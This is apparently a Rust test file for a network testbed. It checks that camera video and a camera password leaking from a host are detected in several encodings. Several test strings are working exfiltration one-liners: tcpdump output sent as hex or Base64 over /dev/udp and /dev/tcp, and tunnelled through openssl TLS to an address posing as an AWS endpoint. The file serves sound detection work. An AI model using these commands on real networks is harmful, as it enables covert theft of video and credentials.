//! Video that a host hears and hands on in another form is found in that form, by the run and from its folder.

use testbed::report::CheckJson;
use testbed::verdict::Verdict;

use crate::sites;
use crate::support::{ONE_RUN, Place, assert_judged_alike, runs_of, say};

const SITE: &str = include_str!("taint.yaml");

/// The check `stays` of a run in which the host does this with what it hears.
#[track_caller]
fn judged(tells: &str) -> CheckJson {
    judged_of(SITE, tells)
}

#[track_caller]
fn judged_of(site: &str, tells: &str) -> CheckJson {
    let place = Place::new();
    let scenario = place.write("site/overheard.yaml", site.replace("TELLS", tells));
    let mut run = place.run(&scenario);
    run.args(["--json", "-", "--allow-run"]);
    let said = say(run, ONE_RUN);
    let [folder] = &place.run_folders()[..] else { panic!("one run: {said}") };
    assert_judged_alike(&place, folder);
    let mut runs = runs_of(&said).runs;
    let checks = runs.remove(0).checks;
    checks.into_iter().find(|check| check.name.as_str() == "stays").unwrap_or_else(|| panic!("{said}"))
}

/// Both taps of the office have it in this form, whatever other forms it has besides.
#[track_caller]
fn assert_found(check: &CheckJson, form: &str) {
    assert_found_at(check, ["desk.eth0", "ear.eth1"], form);
}

/// These two taps have it in this form, and no other tap has any.
#[track_caller]
fn assert_found_at(check: &CheckJson, taps: [&str; 2], form: &str) {
    let texts: Vec<_> = check.findings.iter().map(|finding| finding.text.as_str()).collect();
    assert_eq!((check.verdict, texts.len()), (Verdict::Fail, 2), "{texts:#?} {:#?}", check.reasons);
    for tap in taps {
        let begins = format!("video of door at {tap}: ");
        let found = texts.iter().any(|text| text.starts_with(&begins) && text.contains(form));
        assert!(found, "no `{begins}` with `{form}` in {texts:#?}");
    }
}

/// Listens for what the camera sends.
const HEARS: &str = "tcpdump -n -i eth0 -U --immediate-mode -w - src port 554";

#[test]
fn video_that_is_only_heard_on_the_hub_stays_there() {
    let check = judged(&format!("{HEARS} >/dev/null"));
    assert_eq!(check.verdict, Verdict::Pass, "{:#?}", check.reasons);
}

/// Sends what comes in datagrams of so many bytes, each from a port of its own: nobody listens, and says so.
fn in_datagrams(bytes: u32) -> String {
    let one = format!("dd bs={bytes} count=1 iflag=fullblock status=none");
    format!("while {one} >/dev/udp/10.2.0.2/9; do :; done")
}

#[test]
fn video_that_is_told_as_digits_in_datagrams_is_found() {
    let tells = format!("{HEARS} | xxd -p | {}", in_datagrams(1200));
    assert_found(&judged(&tells), "as hexadecimal digits in a frame");
}

#[test]
fn video_that_is_told_as_base64_over_tcp_is_found() {
    let tells = format!("until exec 3>/dev/tcp/10.2.0.2/80; do sleep 0.1; done; {HEARS} | base64 >&3");
    assert_found(&judged(&tells), "as Base64 in a TCP stream");
}

#[test]
fn a_password_that_is_told_is_found() {
    let check = judged(
        "while sleep 0.2; do echo viewer:$TESTBED_CAMERA_PASSWORD_DOOR | base64 >/dev/udp/10.2.0.2/9; done",
    );
    let texts: Vec<_> = check.findings.iter().map(|finding| finding.text.as_str()).collect();
    assert_eq!((check.verdict, texts.len()), (Verdict::Fail, 2), "{texts:#?} {:#?}", check.reasons);
    for tap in ["desk.eth0", "ear.eth1"] {
        let begins = format!("password of door at {tap}, as Base64 in a frame");
        assert!(texts.iter().any(|text| text.starts_with(&begins)), "no `{begins}` in {texts:#?}");
    }
}

#[test]
fn video_that_is_told_as_it_is_in_large_datagrams_is_found() {
    let tells = format!("{HEARS} | {}", in_datagrams(6000));
    let check = judged(&tells);
    assert_found(&check, "raw in an IP packet that came in pieces");
    // Both ends have the desk's errors, which quote what it has no use for.
    assert_found(&check, "raw quoted in an ICMP error");
}

#[test]
fn video_that_is_told_to_the_cloud_in_tls_is_found() {
    assert_found_inside("-tls1_3", "raw inside a TLS session");
}

#[test]
fn video_that_is_told_to_the_cloud_in_tls_of_before_is_found() {
    assert_found_inside("-tls1_2", "raw inside a TLS 1.2 session");
}

/// The ear tells the cloud in TLS of this version, and both taps of the office have it inside.
#[track_caller]
fn assert_found_inside(version: &str, form: &str) {
    let cloud = "  clouds:\n    aws: { segment: office, region: eu-west-1, address: 10.2.0.10 }\n  hosts:\n";
    let site = sites::changed(SITE, "  hosts:\n", cloud);
    let head = "POST / HTTP/1.1\\\\r\\\\nHost: logs.eu-west-1.amazonaws.com\\\\r\\\\nContent-Length: 9000000\\\\r\\\\n\\\\r\\\\n";
    let tls = "-connect 10.2.0.10:443 -servername logs.eu-west-1.amazonaws.com";
    let tls = format!("openssl s_client -quiet {version} {tls}");
    let tells = format!("while sleep 0.2; do {{ printf '{head}'; {HEARS}; }} | {tls}; done");
    assert_found_at(&judged_of(&site, &tells), ["aws.eth0", "ear.eth1"], form);
}
